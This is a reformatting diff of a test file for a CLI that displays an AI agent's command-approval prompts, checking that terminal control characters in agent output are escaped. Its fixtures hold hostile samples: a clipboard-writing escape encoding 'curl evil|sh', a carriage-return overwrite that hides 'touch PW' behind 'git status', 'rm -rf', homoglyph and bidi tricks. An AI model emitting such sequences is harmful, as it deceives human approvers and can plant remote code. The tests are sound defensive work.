@@ -17,7 +17,11 @@ const OSC52 = '\x1b]52;c;Y3VybCBldmlsfHNo\x07';
 describe('cli: untrusted text on the terminal', () => {
   describe('approval prompt', () => {
     it('shows the command whole with the overwrite visible, and says that characters were escaped', () => {
-      const text = approvalPrompt({ runId: 'wf_x', agentLabel: 'fix\r\x1b[2Kbuild', command: 'touch PW #\r\x1b[2K  git status' });
+      const text = approvalPrompt({
+        runId: 'wf_x',
+        agentLabel: 'fix\r\x1b[2Kbuild',
+        command: 'touch PW #\r\x1b[2K  git status',
+      });
       assert.ok(!RAW_CONTROL.test(text), JSON.stringify(text));
       assert.ok(text.includes('│ touch PW #\\r\\x1b[2K  git status\n'), text);
       assert.ok(text.includes('Agent "fix\\r\\x1b[2Kbuild"'), text);
@@ -26,11 +30,20 @@ describe('cli: untrusted text on the terminal', () => {
 
     it('a multi-line command line by line behind a numbered gutter', () => {
       const text = approvalPrompt({ runId: 'wf_x', agentLabel: 'a', command: 'git diff HEAD\nrm -rf important\n' });
-      assert.match(text, /wants to run a command of 3 lines:\n {2}1│ git diff HEAD\n {2}2│ rm -rf important\n {2}3│ \n/);
+      assert.match(
+        text,
+        /wants to run a command of 3 lines:\n {2}1│ git diff HEAD\n {2}2│ rm -rf important\n {2}3│ \n/,
+      );
     });
 
     it('bidi overrides, zero-width characters and look-alike letters are named', () => {
-      const text = approvalPrompt({ runId: 'wf_x', agentLabel: 'a', command: 'g\u0456t status # \u202Eexe.txt\u200B', reason: 'no rule\nallows it\x1b[8m', rules: ['Bash(g\u0456t status:*)'] });
+      const text = approvalPrompt({
+        runId: 'wf_x',
+        agentLabel: 'a',
+        command: 'g\u0456t status # \u202Eexe.txt\u200B',
+        reason: 'no rule\nallows it\x1b[8m',
+        rules: ['Bash(g\u0456t status:*)'],
+      });
       assert.ok(!RAW_CONTROL.test(text), JSON.stringify(text));
       assert.ok(text.includes('│ gіt status # \\u202eexe.txt\\u200b'), text);
       assert.match(text, /Non-ASCII characters .*: і U\+0456/);
@@ -78,7 +91,14 @@ return 'result \\x1b[2J\\x1b[3J' + r.length
       assert.equal(await c.run('run', 'hostile.js'), 0, c.stderr.text);
       const out = c.stdout.text.replace(OWN_SEQUENCES, '');
       assert.ok(!RAW_CONTROL.test(out), JSON.stringify(out.match(new RegExp(RAW_CONTROL.source + '.{0,20}', 'g'))));
-      for (const shown of ['ok\\x1b]0;pwned\\x07', 'Find\\u202eevil', 'item-1\\x1b[2Kall good', 'log: clip \\x1b]52;c;Y3VybCBldmlsfHNo\\x07', '  second line\\x1b[1A\\x1b[2K', 'result \\x1b[2J\\x1b[3J2']) {
+      for (const shown of [
+        'ok\\x1b]0;pwned\\x07',
+        'Find\\u202eevil',
+        'item-1\\x1b[2Kall good',
+        'log: clip \\x1b]52;c;Y3VybCBldmlsfHNo\\x07',
+        '  second line\\x1b[1A\\x1b[2K',
+        'result \\x1b[2J\\x1b[3J2',
+      ]) {
         assert.ok(out.includes(shown), `shows ${shown}`);
       }
     });
@@ -95,7 +115,10 @@ return 'result \\x1b[2J\\x1b[3J' + r.length
     });
 
     it('dwf list: a saved workflow description cannot write the clipboard', async () => {
-      box.write('.claude/workflows/evil.js', `export const meta = { name: 'evil', description: 'Find bugs${OSC52.replace(/\x1b/g, '\\x1b').replace(/\x07/g, '\\x07')}' }\nreturn 1\n`);
+      box.write(
+        '.claude/workflows/evil.js',
+        `export const meta = { name: 'evil', description: 'Find bugs${OSC52.replace(/\x1b/g, '\\x1b').replace(/\x07/g, '\\x07')}' }\nreturn 1\n`,
+      );
       const c = cli(box);
       assert.equal(await c.run('list'), 0, c.stderr.text);
       assert.ok(!RAW_CONTROL.test(c.stdout.text), JSON.stringify(c.stdout.text));
